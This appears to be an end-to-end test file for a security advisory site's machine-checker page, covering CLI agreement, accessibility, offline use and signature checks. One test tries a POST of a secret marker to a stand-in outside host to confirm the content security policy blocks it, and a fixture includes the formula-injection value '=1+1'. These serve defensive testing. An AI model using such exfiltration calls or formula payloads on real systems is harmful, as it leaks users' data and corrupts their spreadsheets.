import { createHash, createPublicKey, verify } from 'node:crypto'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { BrowserContextOptions, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import * as z from 'zod'
import { parseCsv } from '#formats/csv/index.ts'
import { runCommand } from '#main/cli/run.ts'
import { en } from '#modules/advisory/checker-messages.en.ts'
import { en as advisoryEn } from '#modules/advisory/messages.en.ts'
import { ja } from '#modules/advisory/checker-messages.ja.ts'
import { findBarriers, SCHEMES } from './axe.ts'
import { sharedWorld } from './shared-world.ts'
import { browser, listen, pictureFailure, settle, type Person } from './world.ts'

const folder = mkdtempSync(join(tmpdir(), 'andon-checker-'))
const WORDS = { en, ja }

/** What a list must never be seen in: every request after the page was there. */
let requests: string[] = []
let reader: Person

async function open(options: BrowserContextOptions = {}): Promise<Person> {
  if (browser === undefined) throw new Error('there is no browser')
  const context = await browser.newContext({ locale: 'en-GB', viewport: { width: 1280, height: 900 }, ...options })
  context.setDefaultTimeout(30_000)
  const complaints: string[] = []
  const page = await context.newPage()
  listen(page, complaints)
  page.on('request', (request) => requests.push(`${request.method()} ${request.url()} ${request.postData() ?? ''}`))
  return { context, page, complaints }
}

const address = (path: string): string => `${sharedWorld().publicUrl}${path}`
const fetchBytes = async (path: string): Promise<Buffer> =>
  Buffer.from(await (await fetch(address(path))).arrayBuffer())
const fetchText = async (path: string): Promise<string> => (await fetchBytes(path)).toString()

interface Fixture {
  readonly advisory: string
  readonly list: string
}

const treeSchema = z.object({
  product_tree: z.object({ branches: z.array(z.object({ branches: z.array(z.unknown()) })) }),
})

/** Every product name that a published document has: below `product_name` branches, at any depth. */
function namesIn(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(namesIn)
  if (typeof value !== 'object' || value === null) return []
  const own = 'category' in value && value.category === 'product_name' && 'name' in value ? [String(value.name)] : []
  return [...own, ...Object.values(value).flatMap(namesIn)]
}

/** The published document as a file, and a list of machines: what it names in many versions and spellings, and what it does not. */
async function makeFixture(): Promise<Fixture> {
  const path = (await fetchText('/csaf/white/index.txt')).trim().split('\n')[0] ?? ''
  const text = await fetchText(`/csaf/white/${path}`)
  const names = namesIn(treeSchema.parse(JSON.parse(text)))
  const models = [...new Set(names)].flatMap((name) => [name, name.toLowerCase().replaceAll('-', ' '), `${name}X`])
  const versions = ['', 'A1', 'C7', 'C8', 'C9', 'D1', '1.0', '1.280', '=1+1', 'latest']
  const rows = models.flatMap((model) => versions.map((version) => `${model},${version},L-${model}`))
  const [advisory, list] = [join(folder, 'advisory.json'), join(folder, 'machines.csv')]
  writeFileSync(advisory, text)
  writeFileSync(list, ['model,version,tag', 'SECRET-PLANT-7,1.0,here', ...rows].join('\r\n'))
  return { advisory, list }
}

const answersSchema = z.array(
  z.object({
    asset: z.object({ model: z.string(), version: z.string().optional() }),
    applicability: z.string(),
    vulnerabilities: z.array(
      z.object({ id: z.string(), applicability: z.string(), reasons: z.array(z.object({ text: z.string() })) }),
    ),
  }),
)

/** A line per machine × vulnerability, as `andon affected` says it. */
async function fromCommand({ advisory, list }: Fixture): Promise<string[]> {
  let out = ''
  const io = { stdout: (text: string) => void (out += text), stderr: () => undefined }
  process.env['ANDON_LANG'] = 'en'
  await runCommand(['affected', '--advisory', advisory, '--assets', list, '--json'], io)
  return answersSchema.parse(JSON.parse(out)).flatMap(({ asset, vulnerabilities }) => {
    const named = vulnerabilities.filter(({ applicability }) => applicability !== 'not_listed')
    const head = `${asset.model} ${asset.version ?? ''}`
    if (named.length === 0) return [`${head} not_listed`]
    return named.map(
      ({ id, applicability, reasons }) => `${head} ${id} ${applicability} ${reasons.map(({ text }) => text).join(' ')}`,
    )
  })
}

/** The same lines from the table that the checker lets people keep. */
function fromTable(text: string): string[] {
  const [head, ...records] = parseCsv(text).rows.map(({ cells }) => cells)
  const words = en.csv
  const codes = new Map(Object.entries(en.answer).map(([code, word]) => [word, code]))
  return records.map((cells) => {
    // The table stands guard against formulas; the list did not.
    const cell = (name: string): string => (cells[head?.indexOf(name) ?? -1] ?? '').replace(/^'(?==)/, '')
    const answer = codes.get(
      cells[head?.indexOf(words.answer, (head?.indexOf(words.vulnerability) ?? 0) + 1) ?? -1] ?? '',
    )
    const of = `${cell(words.model)} ${cell(words.version)}`
    return answer === 'not_listed'
      ? `${of} not_listed`
      : `${of} ${cell(words.vulnerability)} ${answer} ${cell(words.reason)}`
  })
}

async function tableOf(page: Page): Promise<string> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: en.result.csv }).click(),
  ])
  return readFileSync(await download.path(), 'utf8')
}

async function giveList(page: Page, list: string): Promise<void> {
  await page.locator('#file').setInputFiles(list)
  await page.locator('.machines > li').first().waitFor()
}

/** Axe in both schemes, and whether the page is wider than the window. */
async function faultsOf(page: Page, where: string): Promise<string[]> {
  const faults: string[] = []
  for (const colorScheme of SCHEMES) {
    await page.emulateMedia({ colorScheme })
    faults.push(...(await findBarriers(page)).map((line) => `${where} ${colorScheme}: ${line}`))
  }
  const over = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
  return over > 0 ? [...faults, `${where}: ${over} px too wide`] : faults
}

describe.skipIf(browser === undefined)('is my machine affected?', () => {
  let fixture: Fixture
  beforeAll(async () => {
    fixture = await makeFixture()
    reader = await open()
  })
  afterEach(({ task }) => pictureFailure(reader, task))
  afterAll(async () => {
    await reader?.context.close()
  })

  it('the list of advisories leads to it, and one machine is answered by keyboard, with ground, reason and remedy', async () => {
    const { page } = reader
    await page.goto(address('/?lang=en'))
    await page.getByRole('link', { name: en.title }).click()
    await page.locator('#unit-model').focus()
    await page.keyboard.type('HJ5-10G')
    await page.keyboard.press('Tab')
    await page.keyboard.type('C7')
    await page.keyboard.press('Enter')
    const result = page.locator('.one .result')
    await result.getByText(en.answerHint.affected).waitFor()
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('H3')
    const text = await result.innerText()
    for (const expected of ['CVE-', 'In the affected range', 'C8', en.remedy.vendor_fix, en.applicable.yes])
      expect(text).toContain(expected)
  })

  it('the page of an advisory leads to it too, and that advisory is told first', async () => {
    const { page } = await open()
    await page.goto(address('/?lang=en'))
    await page.locator('a[href*="/advisories/"]').first().click()
    await page.getByRole('link', { name: advisoryEn.public.checkThis }).click()
    const note = page.locator('.wanted')
    await note.waitFor()
    expect(new URL(page.url()).searchParams.get('advisory')).not.toBeNull()
    await note.getByRole('button', { name: en.allAlike }).click()
    await note.waitFor({ state: 'detached' })
  })

  it('a model that no advisory names is no good news', async () => {
    const { page } = reader
    await page.locator('#unit-model').fill('UNHEARD-OF-1')
    await page.locator('.one button[type=submit]').click()
    const result = page.locator('.one .result')
    await result.getByText(en.answerHint.not_listed).waitFor()
    expect(await result.innerText()).toContain(en.result.silentHint)
    expect(await result.locator('.not_affected').count()).toBe(0)
  })

  it('says of every machine of a list what the command line says; counts, filter and table agree', async () => {
    const { page } = reader
    await giveList(page, fixture.list)
    const expected = await fromCommand(fixture)
    const found = fromTable(await tableOf(page))
    expect(found.toSorted()).toEqual(expected.toSorted())
    expect(new Set(expected.map((line) => line.split(' ').find((word) => word in en.answer))).size).toBe(4)
    const worst = await page.locator('.machines .answer').first().innerText()
    expect(worst).toBe(en.answer.affected)
    await page.locator('.filter.not_listed').click()
    await page.locator('.machines > li').first().waitFor()
    expect(new Set(await page.locator('.machines summary .answer').allInnerTexts())).toEqual(
      new Set([en.answer.not_listed]),
    )
  })

  it('computes beside the page: a long list does not stop it, is told while it is read, and can be called off', async () => {
    const { page, context, complaints } = await open()
    await page.goto(address('/check/?lang=en'))
    await page.locator('summary', { hasText: en.list.paste }).click()
    const [model = ''] = namesIn(JSON.parse(readFileSync(fixture.advisory, 'utf8'))).filter((name) => /\d/.test(name))
    const rows = Array.from({ length: 100_000 }, (_, index) => `${index % 3 === 0 ? `XQ-${index}` : model},1.${index}`)
    await page.locator('#paste').evaluate(
      (area, text) => {
        if (area instanceof HTMLTextAreaElement) area.value = text
      },
      `model,version\n${rows.join('\n')}`,
    )
    await page.getByRole('button', { name: en.list.check }).click()
    expect(page.workers().length).toBe(1)
    await page.getByRole('button', { name: en.list.stop, exact: true }).click()
    const told = page.locator('.many .result [role=alert]')
    await told.waitFor()
    expect(await told.textContent()).toMatch(/of 100,?000 machines/)
    const counted = Number(await page.locator('.filter.all .count').textContent())
    expect(counted).toBeGreaterThan(0)
    expect(counted).toBeLessThan(100_000)
    expect(complaints).toEqual([])
    await context.close()
  })

  it('sends nothing: no request is made for a machine or a list', async () => {
    const { page } = reader
    await page.goto(address('/check/?lang=en'))
    await page.locator('#unit-model').fill('SECRET-PLANT-7')
    await settle(page)
    requests = []
    await page.locator('.one button[type=submit]').click()
    await giveList(page, fixture.list)
    await page.locator('.machines summary').first().click()
    await tableOf(page)
    await settle(page)
    expect(requests.filter((request) => !request.startsWith('GET blob:'))).toEqual([])
    expect(requests.join('\n')).not.toContain('SECRET')
  })

  it('could not send anything if it wanted to: its own policy refuses to fetch and to submit, also to its own server', async () => {
    const { context, page } = await open()
    await page.goto(address('/check/?lang=en'))
    await page.locator('#unit-model').waitFor()
    requests = []
    const outcomes = await page.evaluate(async () => {
      const tried = [
        fetch('/?SECRET-PLANT-7'),
        fetch('https://elsewhere.example/', { method: 'POST', body: 'SECRET-PLANT-7', mode: 'no-cors' }),
      ]
      const form = document.createElement('form')
      form.action = '/?SECRET-PLANT-7'
      document.body.append(form)
      const refused = new Promise((resolve) =>
        document.addEventListener('securitypolicyviolation', (event) => {
          if (event.effectiveDirective === 'form-action') resolve('refused')
        }),
      )
      form.submit()
      return [...(await Promise.allSettled(tried)).map(({ status }) => status), await refused]
    })
    expect(outcomes).toEqual(['rejected', 'rejected', 'refused'])
    expect(requests.join('\n')).not.toContain('SECRET')
    await context.close()
  })

  it('a list that cannot be used says why and where, and nothing is answered', async () => {
    const { page } = reader
    const bad = join(folder, 'bad.csv')
    writeFileSync(bad, 'name,version\r\nx,1\r\n')
    await page.locator('#file').setInputFiles(bad)
    const problem = page.locator('.many .problem')
    await problem.waitFor()
    expect(await problem.innerText()).toContain(en.list.refused)
    expect(await problem.innerText()).toContain('Row 1')
    expect(await page.locator('.machines').count()).toBe(0)
  })

  it.each(['en', 'ja'] as const)('has no barriers and fits a telephone, in light and dark: %s', async (language) => {
    const { page } = reader
    const faults: string[] = []
    for (const width of [1280, 390]) {
      await page.setViewportSize({ width, height: 900 })
      await page.goto(address(`/check/?lang=${language}`))
      await page.locator('#unit-model').fill('HJ5-10G')
      await page.locator('.one button[type=submit]').click()
      await giveList(page, fixture.list)
      await page.locator('.machines summary').first().click()
      expect(await page.locator('h1').innerText()).toBe(WORDS[language].title)
      faults.push(...(await faultsOf(page, `/check ${width}`)))
      await page.goto(address(`/offline/?lang=${language}`))
      expect(await page.locator('h1').innerText()).toBe(WORDS[language].offline.title)
      faults.push(...(await faultsOf(page, `/offline ${width}`)))
    }
    expect(faults).toEqual([])
    expect(reader.complaints).toEqual([])
  })
})

describe.skipIf(browser === undefined)('the offline file', () => {
  const path = join(folder, 'security-advisories.html')
  let fixture: Fixture
  let plant: Person
  beforeAll(async () => {
    fixture = await makeFixture()
    plant = await open({ offline: true })
  })
  afterEach(({ task }) => pictureFailure(plant, task))
  afterAll(async () => {
    await plant?.context.close()
    rmSync(folder, { recursive: true, force: true })
  })

  it('is downloaded from its page, with the size and the hash that stand there, and is signed by the published key', async () => {
    const town = await open()
    await town.page.goto(address('/offline/?lang=en'))
    const [download] = await Promise.all([
      town.page.waitForEvent('download'),
      town.page.getByRole('link', { name: 'security-advisories.html', exact: true }).click(),
    ])
    const bytes = readFileSync(await download.path())
    writeFileSync(path, bytes)
    const text = await town.page.locator('main').innerText()
    expect(text).toContain(createHash('sha256').update(bytes).digest('hex'))
    expect(text).toContain(new Intl.NumberFormat('en').format(bytes.byteLength))
    const key = createPublicKey(await fetchText('/keys/publication.pem'))
    const signature = await fetchBytes('/offline/security-advisories.html.sig')
    expect(verify(null, bytes, key, signature)).toBe(true)
    expect(verify(null, Buffer.concat([bytes, Buffer.from(' ')]), key, signature)).toBe(false)
    const raw = key.export({ type: 'spki', format: 'der' }).subarray(-32)
    expect(text).toContain(createHash('sha256').update(raw).digest('hex'))
    expect(await fetchText('/offline/security-advisories.html.minisig')).toContain(
      'trusted comment: security-advisories.html',
    )
    await town.context.close()
  })

  it('answers without any network as the command line does, asks for nothing, and keeps what was typed in both languages', async () => {
    const { page } = plant
    requests = []
    await page.goto(pathToFileURL(path).href)
    await page.locator('#unit-model').fill('HJ5-10G')
    await page.locator('#unit-version').fill('C7')
    await page.locator('.one button[type=submit]').click()
    await page.getByText(en.answerHint.affected).waitFor()
    await giveList(page, fixture.list)
    expect(fromTable(await tableOf(page)).toSorted()).toEqual((await fromCommand(fixture)).toSorted())
    await page.getByRole('button', { name: en.otherLanguage }).click()
    await page.getByText(ja.answerHint.affected).waitFor()
    await page.locator('.machines > li').first().waitFor()
    expect(await page.locator('#unit-version').inputValue()).toBe('C7')
    expect(await page.locator('html').getAttribute('lang')).toBe('ja')
    expect(requests.filter((request) => !/^GET (?:file|blob|data):/.test(request))).toEqual([])
    expect(await faultsOf(page, 'offline file')).toEqual([])
    expect(plant.complaints).toEqual([])
  })
})
